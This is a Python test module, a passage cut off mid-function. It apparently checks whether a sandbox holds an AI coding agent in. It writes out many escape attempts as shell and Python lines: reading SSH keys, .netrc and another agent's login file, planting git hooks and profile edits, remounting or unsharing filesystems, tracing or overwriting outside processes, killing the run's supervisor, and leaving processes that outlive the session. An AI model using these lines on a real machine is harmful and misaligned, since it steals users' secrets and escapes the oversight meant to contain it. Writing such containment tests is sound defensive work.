"""Ways to leave the walls: to write elsewhere, to read keys and logins, to reach hosts, processes, sockets and devices outside, to be run
outside by piton itself, or to outlive the attempt.

Most are a line of the shell that the agent is. What each gained is looked at from outside, by its `proof`.
"""
import ctypes
import fcntl
import os
import pty
import socket
import subprocess
import tempfile
import threading
import time
import tty
from contextlib import contextmanager
from pathlib import Path

from attack_ground import KEYS, NOTICED, OPEN, PYTHON, REFUSED, SECRET, WORKS, Way, honest, quoted
from harness import Violation

# Writes the canary, and says so in a way that no shell needs.
HIT = 'echo hit > "$OUTSIDE/canary"'
# Between walls, and nowhere else: a namespace of users of one's own, with all that is allowed in it.
OWN = "unshare --user --map-root-user --mount sh -c"


def ways():
    for family in (files, places, keys, mounts, processes, survivors, sockets, hosts, repositories, vehicles, readers, agents, terminals,
                   machine, honest_ways):
        yield from family()


# ── How a way is taken ───────────────────────────────────────────────────────────────────────────

def canary(ground):
    return ground.is_touched()


def soon(ground):
    """For what is not waited for: when nothing is at work any more, it has happened or will not."""
    ground.until(lambda: ground.is_touched() or not ground.processes(), 20)
    return ground.is_touched()


def stolen(ground):
    """Whether what only the home has is in the tree now, or in what was said to an agent."""
    for base, directories, names in os.walk(ground.repo):
        directories[:] = [name for name in directories if name != ".git"]
        for name in names:
            path = Path(base) / name
            if path.is_file() and not path.is_symlink() and SECRET.encode() in path.read_bytes():
                return True
    return False


# A run rests with one of these; with 7 where the agent broke what the run needs.
ENDS = (0, 1, 3, 4)
RESTS = (*ENDS, 7)


def way(name, line, bare=OPEN, walls=REFUSED, proof=canary, prepare=None, check="true", more=(), then=(), env=None, codes=ENDS, **rest):
    """An agent that is this line. `prepare` makes ready what a person has; `then` are commands of piton that a person calls later."""
    def do(ground):
        made = prepare(ground) if prepare else None
        variables = {name: str(value) for name, value in (made or {}).items()} if isinstance(made, dict) else {}
        done = ground.loop(line(ground) if callable(line) else line, check, *more, env=variables | (env or {}))
        ran(done, codes)
        for words in then(ground) if callable(then) else then:
            ground.piton(*words)
        came = proof(ground)
        return came if isinstance(came, str) else OPEN if came else REFUSED
    return Way("walls", name, do, bare, walls, **rest)


def ran(done, codes=ENDS):
    """A run that never began proves nothing."""
    if done.returncode not in codes:
        raise Violation(f"exit {done.returncode}: {(done.stdout + done.stderr)[-500:]}")
    if "the agent exited with 126" in done.stdout or "the agent exited with 127" in done.stdout:
        raise Violation(f"the attacker could not be run: {done.stdout[-500:]}")
    return done


def tool(ground, name, text, mode=0o755):
    """A program beside the repository, for the agent to run."""
    return ground.put(ground.dir / "tools" / name, text, mode)


def python(text):
    """The agent is this program."""
    return lambda ground: f"{PYTHON} {tool(ground, 'agent.py', text)}"


def config(text, trust=True):
    def prepare(ground):
        ground.commit({"piton.toml": text}, "settings")
        if trust:
            ground.piton("trust", "--yes", check=True)
    return prepare


@contextmanager
def alone():
    """What belongs to the whole machine is changed by one at a time, and put back."""
    place = os.open(Path(__file__).resolve().parent, os.O_RDONLY)
    try:
        fcntl.flock(place, fcntl.LOCK_EX)
        yield
    finally:
        os.close(place)


# ── Writing elsewhere ────────────────────────────────────────────────────────────────────────────

def changed(path, was=None):
    """Whether a file below the ground is there, or other than it was."""
    return lambda ground: (ground.dir / path).read_text() != was if (ground.dir / path).exists() else was is not None


def files():
    profile = changed("home/.profile", "# a profile\n")
    yield way("write a file beside the repository", HIT)
    yield way("delete a file beside the repository", 'rm -f "$OUTSIDE/canary"')
    yield way("append to ~/.profile", "echo hit >> ~/.profile", proof=profile)
    yield way("put a program into ~/.local/bin", "mkdir -p ~/.local/bin && cp /bin/true ~/.local/bin/ls",
              proof=lambda ground: (ground.home / ".local/bin/ls").exists())
    yield way("name a hook in ~/.gitconfig", "git config --global core.hooksPath /x",
              proof=lambda ground: "hooksPath" in (ground.home / ".gitconfig").read_text())
    yield way("write the user's settings of piton", "mkdir -p ~/.config/piton && echo '[guard]' > ~/.config/piton/config.toml",
              proof=lambda ground: (ground.config / "piton/config.toml").exists())
    yield way("write through a link that it makes in the tree", 'ln -s "$OUTSIDE/canary" link && echo hit > link')
    yield way("write through a link that was in the tree", "echo hit > link/canary",
              prepare=lambda ground: (ground.repo / "link").symlink_to(ground.outside / "directory"))
    yield way("write by a second name that it gives the file", 'ln "$OUTSIDE/canary" hard && echo hit > hard')
    # A file of the tree is the agent's, also where it has a second name elsewhere.
    yield way("write a file of the tree that has a second name elsewhere", "echo hit > hard", walls=OPEN, says="walls.md: one that has a second name elsewhere",
              prepare=lambda ground: os.link(ground.outside / "canary", ground.repo / "hard"))
    yield way("move a directory from outside into the tree", 'mv "$OUTSIDE/directory" .')
    yield way("move the tree away", 'mv "$REPO" "$GROUND/elsewhere"; sleep 0.2; mv "$GROUND/elsewhere" "$REPO" && touch "$REPO/moved"',
              codes=RESTS,
              proof=lambda ground: (ground.dir / "elsewhere").exists() or (ground.repo / "moved").exists())
    yield way("write by a program that is only in memory", python(
        "import os\nfd = os.memfd_create('x')\nos.write(fd, b'#!/bin/sh\\necho hit > \"$OUTSIDE/canary\"\\n')\nos.set_inheritable(fd, True)\n"
        "os.execv('/proc/self/fd/%d' % fd, ['x'])\n"))
    yield way("write by way of /proc/self/root", 'echo hit > "/proc/self/root$OUTSIDE/canary"')
    yield way("write by /proc/self/fd of a file opened for reading", 'exec 7< "$OUTSIDE/canary"; echo hit > /proc/self/fd/7')
    yield way("truncate a file that is open for reading", python(
        "import os\nfd = os.open(os.environ['OUTSIDE'] + '/canary', os.O_RDONLY)\nos.truncate('/proc/self/fd/%d' % fd, 0)\n"))
    yield way("change the mode of a file outside", 'chmod 777 "$OUTSIDE/canary"')
    yield way("map a file outside and write to it", python(
        "import mmap, os\nfd = os.open(os.environ['OUTSIDE'] + '/canary', os.O_RDWR)\nmmap.mmap(fd, 0)[:3] = b'hit'\n"))
    yield Way("walls", "a descriptor of a file that the person's shell left open",
              lambda ground: descriptor(ground, ground.outside / "canary", "echo hit >&9"), REFUSED, REFUSED)
    yield Way("walls", "a descriptor of a directory that the person's shell left open",
              lambda ground: descriptor(ground, ground.outside, "echo hit > /proc/self/fd/9/canary"), REFUSED, REFUSED)
    yield way("write into /dev/shm of the machine", lambda ground: f"echo hit > /dev/shm/{ground.dir.parent.name}-{ground.dir.name}",
              proof=in_shared_memory)
    yield way("replace piton itself", 'mv "$PITON" "$PITON.old" && printf "#!/bin/sh\\n" > "$PITON" && chmod +x "$PITON"',
              prepare=own_binary,
              proof=lambda ground: (ground.dir / "bin/piton.old").exists(), codes=RESTS)
    yield way("the cache of builds, where others will run it", "mkdir -p ~/.cache/tool && echo hit > ~/.cache/tool/x", walls=OPEN, says="walls.md: caches of builds",
              prepare=lambda ground: ground.put(ground.home / ".cache/known", ""), proof=changed("home/.cache/tool/x"))
    yield way("a cache of builds that is not there yet", "mkdir -p ~/.npm && echo hit > ~/.npm/x", proof=changed("home/.npm/x"))
    yield way("a link in a cache of builds", 'ln -s "$OUTSIDE" ~/.cache/link; echo hit > ~/.cache/link/canary',
              prepare=lambda ground: ground.put(ground.home / ".cache/known", ""))


def in_shared_memory(ground):
    path = Path(f"/dev/shm/{ground.dir.parent.name}-{ground.dir.name}")
    is_there = path.exists()
    path.unlink(missing_ok=True)
    return is_there


def own_binary(ground):
    """A second name of the binary, in a directory of the user's."""
    place = ground.put(ground.dir / "bin/piton", "")
    place.unlink()
    try:
        os.link(ground.binary, place)
    except OSError:
        subprocess.run(["cp", ground.binary, place], check=True)
    ground.binary = str(place)


def descriptor(ground, path, line):
    """The person's shell has something open, and everything that it starts inherits that."""
    how = "<" if path.is_dir() else ">>"
    ran(ground.sh(f"exec 9{how}{quoted(path)}; exec {quoted(ground.binary)} loop x --id r --here --max-iterations 1 --exec {quoted(line)} "
                  f"--check c=true {' '.join(ground.walls())}"))
    return OPEN if ground.is_touched() else REFUSED


def places():
    """What is closed in the tree itself."""
    text = "[guard]\nprotect = ['tests', 'a/b/kept.txt']\n"

    def protected(ground):
        ground.commit({"tests/test_a.py": "def test():\n    assert 1\n", "a/b/kept.txt": "kept\n"}, "kept")
        config(text)(ground)

    for name, path, line in (
        ("write a protected path", "a/b/kept.txt", "echo hit > a/b/kept.txt"),
        ("replace a protected path by a rename", "a/b/kept.txt", "echo hit > x; mv x a/b/kept.txt"),
        ("move the directory of a protected path away", "a/b/kept.txt", "mv a aside && mkdir -p a/b && echo hit > a/b/kept.txt"),
        ("delete a protected path", "a/b/kept.txt", "rm -rf a"),
        ("put a link into the place of a protected path", "a/b/kept.txt", "echo hit > x; ln -sf ../../x a/b/kept.txt"),
        ("write piton.toml", "piton.toml", "echo '# hit' >> piton.toml"),
        ("replace piton.toml by a rename", "piton.toml", "echo '# hit' > x; mv x piton.toml"),
    ):
        yield Way("walls", name, closed(path, line, protected), NOTICED, REFUSED)
    git = lambda path: lambda ground: (ground.repo / path).exists()
    yield way("leave a hook of git", "printf '#!/bin/sh\\n' > .git/hooks/post-commit", proof=git(".git/hooks/post-commit"))
    yield way("write the configuration of the repository", "git config core.pager evil",
              proof=lambda ground: "evil" in (ground.repo / ".git/config").read_text())
    yield way("write attributes below .git", "mkdir -p .git/info; echo '* filter=x' > .git/info/attributes",
              proof=git(".git/info/attributes"))
    yield way("move .git away", "mv .git .kept && cp -r .kept .git && touch .git/moved", proof=git(".git/moved"))
    yield way("put a file into the place of .git", "rm -rf .git && echo 'gitdir: x' > .git",
              proof=lambda ground: not (ground.repo / ".git").is_dir(), codes=RESTS)
    yield way("move a branch", "git update-ref refs/heads/evil HEAD", proof=lambda ground: "evil" in ground.sh(
        "git branch --list evil").stdout)
    yield way("delete the snapshots of the run", "git update-ref -d refs/piton/runs/r; git for-each-ref refs/piton > gone",
              proof=lambda ground: (ground.repo / "gone").exists() and (ground.repo / "gone").read_text() == "")
    yield way("the repository that the work tree belongs to: a hook", 'printf "#!/bin/sh\\n" > "$GROUND/repo/.git/hooks/post-commit"',
              more=("--worktree",),
              proof=git(".git/hooks/post-commit"))
    yield way("the repository that the work tree belongs to: a file of the checkout", 'echo hit > "$GROUND/repo/README"',
              more=("--worktree",),
              proof=lambda ground: (ground.repo / "README").read_text() != "a tree\n")
    yield way("another repository by the .git of the work tree",
              f'printf "[core]\\nfsmonitor = echo hit > $OUTSIDE/canary; false\\n" > x; rm -rf .git; git init -q . && cat x >> .git/config; true',
              more=("--worktree",), bare=REFUSED, then=(("diff", "r"), ("status", "r")), codes=RESTS)
    yield way("the hooks of the directory that the configuration names", 'mkdir -p "$GROUND/hooks"; echo x > "$GROUND/hooks/pre-commit"',
              prepare=lambda ground: ground.sh(f"mkdir {ground.dir}/hooks; git config core.hooksPath {ground.dir}/hooks", check=True) and
              None,
              proof=changed("hooks/pre-commit"))


def closed(path, line, prepare):
    """Whether a closed path of the tree was changed while the agent worked; if so, whether it was put back."""
    def do(ground):
        prepare(ground)
        was = (ground.repo / path).read_text()
        look = f'{line}; test "$(cat {path})" = "$(cat "$GROUND/was")" || echo changed'
        ground.put(ground.dir / "was", was)
        ran(ground.loop(look))
        if "changed" not in ground.piton("output", "r").stdout:
            return REFUSED
        is_back = (ground.repo / path).is_file() and not (ground.repo / path).is_symlink() and (ground.repo / path).read_text() == was
        return NOTICED if is_back else OPEN
    return do


# ── Reading keys and logins ──────────────────────────────────────────────────────────────────────

def keys():
    read = lambda name, line, **more: way(name, line, proof=stolen, **more)
    for name in KEYS[::2]:
        yield read(f"read ~/{name}", f"cat ~/{name} > stolen")
    yield read("read all that the home has", "tar cf - -C ~ . 2>/dev/null > stolen")
    yield read("read a key by way of /proc/self/root", "cat /proc/self/root$HOME/.netrc > stolen")
    yield read("read a key by a link in the tree", "ln -s ~/.netrc link; cat link > stolen")
    yield read("read a directory of keys that is a link", "cat ~/.ssh/id_ed25519 ~/dotfiles/ssh/id_ed25519 > stolen", prepare=moved_keys)
    yield read("read a key where a variable names it", 'cat "$AWS_SHARED_CREDENTIALS_FILE" > stolen', prepare=lambda ground: {
        "AWS_SHARED_CREDENTIALS_FILE": ground.put(ground.home / "mine/credentials", SECRET)})
    yield read("read the login of another agent", "cat ~/.claude/.credentials.json > stolen",
               prepare=lambda ground: ground.put(ground.home / ".claude/.credentials.json", SECRET) and None)
    yield Way("walls", "read a key that was made while it worked", later_key(".authinfo"), OPEN, REFUSED)
    yield Way("walls", "read a key that was made while it worked, in a directory that was there", later_key(".config/hub"),
              OPEN, OPEN, says="walls.md: A key that is made meanwhile")
    yield Way("walls", "read a key that was replaced by a rename while it worked", later_key(".netrc"), OPEN, REFUSED)
    yield Way("walls", "read a key below a directory that was replaced while it worked",
              later_key(".ssh/id_ed25519", directory=".ssh"), OPEN, REFUSED)
    yield Way("walls", "read a key below a directory that was replaced while it worked, which does not lie at the top of the home",
              later_key(".config/gh/hosts.yml", directory=".config/gh"), OPEN, OPEN,
              says="walls.md: a directory of keys that does not lie at the top of your home")
    yield Way("walls", "read a key that was replaced while it worked, in a home with very many entries", crowded_home, OPEN, OPEN,
              says="walls.md: In a home with more than 1,000 entries at its top they do not")
    # What is in no table, and what nothing hides.
    yield read("read a document of the person's", "cat ~/letters/one > stolen", walls=OPEN, says="walls.md: mail, documents, other repositories",
               prepare=lambda ground: ground.put(ground.home / "letters/one", SECRET) and None)
    yield read("read a variable that holds a token", 'echo "$MY_TOKEN" > stolen', walls=OPEN, env={"MY_TOKEN": SECRET},
               says="walls.md: keeps variables back, which nothing here hides")
    yield Way("walls", "read a key of the session's keyring", keyring, OPEN, OPEN,
              says="walls.md: the keyring of your session")


def moved_keys(ground):
    (ground.home / ".ssh").rename(ground.home / "ssh")
    ground.put(ground.home / "dotfiles/x", "")
    (ground.home / "ssh").rename(ground.home / "dotfiles/ssh")
    (ground.home / ".ssh").symlink_to(ground.home / "dotfiles/ssh")


def later_key(name, directory=""):
    """A person logs in somewhere while the agent works: the file is written anew, or the whole directory, as tools do."""
    def do(ground):
        path = ground.home / name
        agent = f'touch "$REPO/waits"; for i in $(seq 200); do test -e "$OUTSIDE/go" && break; sleep 0.02; done; cat {quoted(path)} > stolen; true'
        running = ground.start(f'for i in $(seq 500); do test -e "$REPO/waits" && break; sleep 0.02; done; ' + (
            f'cp -r ~/{directory} ~/.new && echo {SECRET}-later > ~/.new/{path.name} && mv ~/{directory} ~/.old && mv ~/.new ~/{directory}'
            if directory else
            f'echo {SECRET}-later > {quoted(path)}.new && mv {quoted(path)}.new {quoted(path)}') + '; touch "$OUTSIDE/go"')
        ran(ground.loop(agent))
        running.wait(20)
        return OPEN if stolen(ground) else REFUSED
    return do


def crowded_home(ground):
    """More than is put back one by one."""
    for number in range(1001):
        ground.put(ground.home / f"{number}", "")
    return later_key(".netrc")(ground)


def keyring(ground):
    """A session's keyring goes along with whatever the session starts."""
    calls = "import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    numbers = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine)
    if not numbers:
        return OPEN
    add, request, control = numbers
    tool(ground, "agent.py",
         calls + f"key = libc.syscall({request}, b'user', b'attack', None, 0)\nbuffer = ctypes.create_string_buffer(200)\n"
         f"count = libc.syscall({control}, 11, key, buffer, 200)\nopen('stolen', 'wb').write(buffer.raw[:max(count, 0)])\n")
    login = tool(ground, "login.py",
                 calls + f"libc.syscall({control}, 1, None)\nlibc.syscall({add}, b'user', b'attack', b'{SECRET}', {len(SECRET)}, -3)\n"
                 "os.execv(sys.argv[1], sys.argv[1:])\n")
    ran(ground.call([*PYTHON.split(), login, ground.binary, "loop", "x", "--id", "r", "--here", "--max-iterations", "1", "--check",
                     "c=true",
                     "--exec", f"{PYTHON} {ground.dir}/tools/agent.py", *ground.walls()]))
    return OPEN if stolen(ground) else REFUSED


# ── Namespaces and mounts ────────────────────────────────────────────────────────────────────────

SETATTR = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
here = os.path.dirname(os.environ["OUTSIDE"]).encode()
tree = libc.syscall(428, -100, os.environ["OUTSIDE"].encode(), 1 | 0x80000)          # open_tree, a clone
class Attr(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in ("set", "clr", "propagation", "userns")]
attr = Attr(0, 1, 0, 0)                                                                # not read-only any more
libc.syscall(442, tree, b"", 0x1000, ctypes.byref(attr), ctypes.sizeof(attr))          # mount_setattr
open("/proc/self/fd/%d/canary" % tree, "w").write("hit")
'''
HANDLE = r'''
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
number = ctypes.c_int()
path = (os.environ["OUTSIDE"] + "/canary").encode()
libc.name_to_handle_at(-100, path, buffer, ctypes.byref(number), 0)
at = os.open(os.environ["REPO"], os.O_RDONLY)
fd = libc.open_by_handle_at(at, buffer, os.O_WRONLY | os.O_TRUNC)
os.write(fd, b"hit")
'''


def mounts():
    """Bare these are no way out: whoever has no walls writes at once. So each ends with what would write."""
    def own(name, line, proof=canary, **more):
        return way(name, f"{OWN} {quoted(line)}", proof=proof, **more)
    yield way("mount everything writable again", f"mount -o remount,rw,bind / ; {HIT}")
    yield own("mount everything writable again in a namespace of its own", f"mount -o remount,rw,bind /; {HIT}")
    yield own("mount the outside once more in a namespace of its own",
              'mkdir m; mount --bind "$OUTSIDE" m; mount -o remount,rw,bind m; echo hit > m/canary')
    yield own("take down the wall before a key", "umount -l ~/.ssh; cat ~/.ssh/id_ed25519 > stolen", proof=stolen)
    yield own("look below the walls by a mount of the root alone",
              'mkdir m; mount --bind / m; cat m$HOME/.netrc m$HOME/.ssh/id_ed25519 > stolen; true; cat ~/.netrc > stolen2', proof=stolen)
    yield own("look below the walls by a mount of the home alone",
              "mkdir m; mount --bind ~ m; cat m/.netrc m/.ssh/id_ed25519 > stolen; cat ~/.netrc > stolen2", proof=stolen)
    yield own("take everything down", f"umount -l -R {quoted('/')}; {HIT}")
    yield way("the attributes of a mount, changed on a copy of it",
              lambda ground: f"{OWN} {quoted(f'{PYTHON} ' + str(tool(ground, 'agent.py', SETATTR)))}")
    yield way("open a file by its handle", python(HANDLE), bare_user=REFUSED)
    yield way("the namespaces of its parent", f"nsenter -t $PPID -m sh -c {quoted(HIT)}", bare_user=REFUSED)
    yield way("another root by pivoting", f"{OWN} {quoted('mkdir m; mount --rbind / m; cd m; mkdir -p old; pivot_root . old; ' + HIT)}",
              bare_user=OPEN)
    yield way("a file system of its own over the outside", 'mount -t tmpfs none "$OUTSIDE/directory"', bare_user=REFUSED,
              proof=lambda ground: f"{ground.outside}/directory" in Path("/proc/self/mounts").read_text())
    yield way("a layer over the outside",
              'mkdir u w; mount -t overlay none -o lowerdir="$OUTSIDE/directory",upperdir=u,workdir=w "$OUTSIDE/directory"',
              bare_user=REFUSED, proof=lambda ground: f"{ground.outside}/directory" in Path("/proc/self/mounts").read_text())
    yield way("walls of its own, with everything writable in them", f"bwrap --dev-bind / / sh -c {quoted(HIT)}")
    yield way("the step into the walls, called once more", f'"$PITON" __enclosed "" sh -c {quoted(HIT)}')


# ── Processes outside ────────────────────────────────────────────────────────────────────────────

TRACE = r'''
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
pid = int(os.environ["VICTIM"])
if libc.ptrace(16, pid, 0, 0) == 0:
    os.waitpid(pid, 0x40000000)
    libc.ptrace(17, pid, 0, signal.SIGKILL)
'''
MEMORY = r'''
import os
pid = os.environ["VICTIM"]
for line in open("/proc/%s/maps" % pid):
    words = line.split()
    if "r-xp" in words and not line.rstrip().endswith(("[vdso]", "[vsyscall]")):
        begin, end = (int(word, 16) for word in words[0].split("-"))
        memory = os.open("/proc/%s/mem" % pid, os.O_RDWR)
        os.pwrite(memory, b"\x00" * (end - begin), begin)
os.kill(int(pid), 18)
'''
PIDFD = "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(int(os.environ['VICTIM'])), 9)\n"


def processes():
    def victim(line="exec sleep 60"):
        """A process of the same user's, outside."""
        def prepare(ground):
            ground.victim = ground.start(line)
            return {"VICTIM": ground.victim.pid}
        return prepare
    def died(ground):
        try:
            ground.victim.wait(1)
            return True
        except subprocess.TimeoutExpired:
            ground.victim.kill()
            ground.victim.wait()
            return False
    hit = lambda name, line, **more: way(name, line, prepare=victim(), proof=died, **more)
    yield hit("end a process outside", "kill -9 $VICTIM")
    yield hit("end a process outside by a descriptor of it", python(PIDFD))
    yield hit("trace a process outside", python(TRACE))
    yield hit("write the memory of a process outside", python(MEMORY + "os.kill(int(pid), 10)\n"))
    yield hit("the limits of a process outside",
              "prlimit --pid $VICTIM --cpu=0:0; kill -CONT $VICTIM; prlimit --pid $VICTIM | grep -q 'CPU.* 0 ' && kill -XCPU $VICTIM")
    yield way("what a process outside has open", 'echo hit > /proc/$VICTIM/fd/9',
              prepare=victim('exec 9>>"$OUTSIDE/canary"; exec sleep 60'))
    yield way("the directory in which a process outside stands", 'echo hit > /proc/$VICTIM/cwd/canary',
              prepare=victim('cd "$OUTSIDE"; exec sleep 60'))
    yield way("the variables of a process outside", 'tr "\\0" "\\n" < /proc/$VICTIM/environ > stolen', proof=stolen,
              prepare=victim(f"TOKEN={SECRET} exec sleep 60"))
    yield way("the words of a process outside", 'tr "\\0" "\\n" < /proc/$VICTIM/cmdline > stolen', proof=stolen,
              prepare=victim(f"exec sh -c 'sleep 60; : {SECRET}'"))
    yield way("the root of a process outside", 'echo hit > "/proc/$VICTIM/root$OUTSIDE/canary"', prepare=victim())
    yield way("the namespaces of a process outside", f"nsenter -t $VICTIM -m sh -c {quoted(HIT)}", prepare=victim(), bare_user=REFUSED)
    yield Way("walls", "end the driver of the run", end_driver, NOTICED, REFUSED)
    yield Way("walls", "end the keeper of the attempt", end_keeper, NOTICED, REFUSED)
    yield way("a queue of messages of the machine", python(QUEUE), prepare=queue, proof=queued)
    yield way("a program that is root's whoever starts it", '"$GROUND/suid/touch" "$GROUND/suid/hit"', prepare=suid, only="user",
              proof=lambda ground: (ground.dir / "suid/hit").exists()) if os.getuid() == 0 else honest("walls",
                  "an agent that starts a program", in_the_tree)
    # A file of the tree is the agent's, and so is its mode.
    yield way("leave a program in the tree that is its owner's whoever starts it", "cp /bin/true tool && chmod 4755 tool", walls=OPEN,
              says="walls.md: An agent can leave a program there that runs as its owner",
              proof=lambda ground: (ground.repo / "tool").exists() and bool((ground.repo / "tool").stat().st_mode & 0o4000))


def suid(ground):
    place = ground.dir / "suid"
    place.mkdir(mode=0o755)
    subprocess.run(["cp", "/usr/bin/touch", place / "touch"], check=True)
    (place / "touch").chmod(0o4755)


QUEUE = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
queue = libc.msgget(int(os.environ["QUEUE"]), 0)
libc.msgsnd(queue, ctypes.byref((ctypes.c_long * 2)(1, 7)), 8, 0o4000)
'''


def queue(ground):
    key = (hash(str(ground.dir)) & 0x3FFFFFFF) | 1
    made = ground.call([*PYTHON.split(), "-c", f"import ctypes; print(ctypes.CDLL(None).msgget({key}, 0o1600))"], check=True)
    ground.queue = int(made.stdout)
    return {"QUEUE": key}


def queued(ground):
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.msgrcv(ground.queue, ctypes.byref((ctypes.c_long * 2)()), 8, 0, 0o4000)
    libc.msgctl(ground.queue, 0, None)
    return got == 8


def above(word):
    """A line that finds the number of the process above that was started with this word."""
    word = f"[{word[0]}]{word[1:]}"
    return (f'p=$$; while [ "$p" -gt 1 ]; do tr "\\0" " " < /proc/$p/cmdline | grep -q {word} && break; p=$(cut -d" " -f4 /proc/$p/stat); done; '
            f'tr "\\0" " " < /proc/$p/cmdline | grep -q {word}')


def end_driver(ground):
    """The driver is no ancestor of an agent that can be asked for; it is found by its words."""
    line = 'for p in /proc/[0-9]*; do if tr "\\0" " " < $p/cmdline 2>/dev/null | grep -q "$REPO.*[_]_driver"; then kill -9 ${p#/proc/}; fi; done; sleep 0.3'
    ground.loop(line)
    if ground.kinds().count("driver_started") > 1:
        return NOTICED
    return REFUSED if ground.status()["status"] == "stopped" else OPEN


def end_keeper(ground):
    ran(ground.loop(f"{above('__keeper')} && kill -9 $p; sleep 0.3", "true"), codes=RESTS)
    kinds = ground.kinds()
    return NOTICED if "attempt_lost" in kinds else REFUSED if "attempt_finished" in kinds else OPEN


# ── What outlives the attempt ────────────────────────────────────────────────────────────────────

def survivors():
    """A process that is left when the attempt has ended would write to a tree that is being judged."""
    work = 'exec >/dev/null 2>&1 </dev/null; while true; do date >> "$OUTSIDE/late" 2>/dev/null; date >> late; sleep 0.02; done'

    def left(ground):
        """Whether anything of the attempt still works once the run rests."""
        time.sleep(0.1)
        alive = [pid for pid in ground.processes() if b"late" in Path(f"/proc/{pid}/cmdline").read_bytes()]
        return bool(alive)
    stays = lambda name, line, **more: way(name, line, REFUSED, REFUSED, proof=left, **more)
    yield stays("stay in the background", f"sh -c {quoted(work)} & sleep 0.1")
    yield stays("stay in a session of its own", f"setsid sh -c {quoted(work)} & sleep 0.1")
    yield stays("stay by two forks", f"(setsid sh -c {quoted(work)} &) & sleep 0.1")
    yield stays("stay without any variable", f"env -i OUTSIDE=\"$OUTSIDE\" PATH=\"$PATH\" setsid sh -c {quoted(work)} & sleep 0.1")
    yield stays("stay deaf to the request to end", f"setsid sh -c {quoted('trap : TERM INT HUP; ' + work)} & sleep 0.1")
    yield stays("stay in a namespace of its own", f"unshare --user --map-root-user --pid --fork sh -c {quoted(work)} & sleep 0.1")
    yield stays("stay while it stands still", f"setsid sh -c {quoted('kill -STOP $$; ' + work)} & sleep 0.1")
    yield stays("stay by forking again and again", "setsid sh -c 'f() { sleep 0.01; f late & exit; }; f late' & sleep 0.1")
    yield stays("stay in the control group of the whole machine",
                f"setsid sh -c {quoted('for g in /sys/fs/cgroup/unified /sys/fs/cgroup; do echo $$ > $g/cgroup.procs && break; done; ' + work)} & sleep 0.2")
    yield Way("walls", "stay when the keeper was ended", keeper_survivor(work), REFUSED, REFUSED)
    yield Way("walls", "a check that leaves something at work", lambda ground: REFUSED if not (
        ran(ground.loop("true", f"setsid sh -c {quoted(work)} & sleep 0.1")) and left(ground)) else OPEN, REFUSED, REFUSED)
    yield Way("walls", "a hook that leaves something at work", lambda ground: hook_survivor(ground, work, left), OPEN, REFUSED)


def keeper_survivor(work):
    def do(ground):
        ran(ground.loop(f"setsid sh -c {quoted(work)} & sleep 0.1; {above('__keeper')} && kill -9 $p; sleep 0.2"), codes=RESTS)
        time.sleep(0.1)
        return OPEN if [pid for pid in ground.processes() if b"late" in Path(f"/proc/{pid}/cmdline").read_bytes()] else REFUSED
    return do


def hook_survivor(ground, work, left):
    config("[hooks.stay]\npoints = ['post_iteration']\ncommand = 'sh stay'\n")(ground)
    ground.commit({"stay": f"setsid sh -c {quoted(work)} & sleep 0.1\n"}, "a hook")
    ran(ground.loop("echo x > x"))
    return OPEN if left(ground) else REFUSED


# ── Sockets and hosts ────────────────────────────────────────────────────────────────────────────

class Server:
    """Something of the person's that listens; `heard` is what it was told."""

    def __init__(self, ground, family, address):
        self.heard = b""
        self.socket = socket.socket(family)
        self.socket.bind(address)
        self.socket.listen(8)
        ground.servers.append(self.socket)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                client, _ = self.socket.accept()
                client.settimeout(2)
                self.heard += client.recv(4096)
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                client.close()
            except TimeoutError:
                continue
            except OSError:
                return


SAY = "import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({})\ns.sendall(b'hit')\ns.recv(10)\n"
ABI = ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1)
# Landlock closes sockets without a file from its sixth version on.
ABSTRACT = REFUSED if ABI >= 6 else OPEN


def heard(ground):
    time.sleep(0.05)
    return b"hit" in ground.server.heard


def sockets():
    def listening(path_of):
        def prepare(ground):
            path = path_of(ground)
            ground.server = Server(ground, socket.AF_UNIX, path)
            os.chmod(path, 0o777)
            return {"SOCKET": path}
        return prepare
    say = SAY.format("'/proc/self/fd/%d/%s' % (os.open(os.path.dirname(os.environ['SOCKET']), os.O_RDONLY), os.path.basename(os.environ['SOCKET']))")
    yield way("a socket beside the repository", python(say), prepare=listening(lambda ground: f"{ground.outside}/s"), proof=heard)
    yield way("a socket in /tmp", python(say), prepare=listening(lambda ground: scratch(ground) + "/s"), proof=heard)
    yield way("a socket in the home", python(say), prepare=listening(lambda ground: f"{ground.home}/s"), proof=heard)
    yield way("a socket that was given its name from where it lies", python(say), prepare=relative, proof=heard, walls=OPEN,
              says="walls.md: bound by a relative name")
    yield way("a socket that lies in the tree", python(say), prepare=listening(lambda ground: f"{ground.repo}/s"), proof=heard)
    yield way("a socket without a file", python(SAY.format("'\\0attack' + os.environ['GROUND']")), proof=heard, walls=ABSTRACT,
              says="walls.md: are closed by Landlock, on kernels from 6.12",
              prepare=lambda ground: setattr(ground, "server", Server(ground, socket.AF_UNIX, f"\0attack{ground.dir}")))
    yield Way("walls", "a socket that is made while it works", lambda ground: later_socket(ground, listening, say), OPEN, OPEN,
              says="walls.md: Sockets that are made later")


def relative(ground):
    """As a server does that was started in its directory."""
    here = os.getcwd()
    os.chdir(ground.outside)
    try:
        ground.server = Server(ground, socket.AF_UNIX, "s")
    finally:
        os.chdir(here)
    os.chmod(ground.outside / "s", 0o777)
    return {"SOCKET": ground.outside / "s"}


def scratch(ground):
    """A directory in /tmp; it goes with the ground."""
    ground.scratches.append(tempfile.mkdtemp(prefix="piton-attack-", dir="/tmp"))
    os.chmod(ground.scratches[-1], 0o755)
    return ground.scratches[-1]


def later_socket(ground, listening, say):
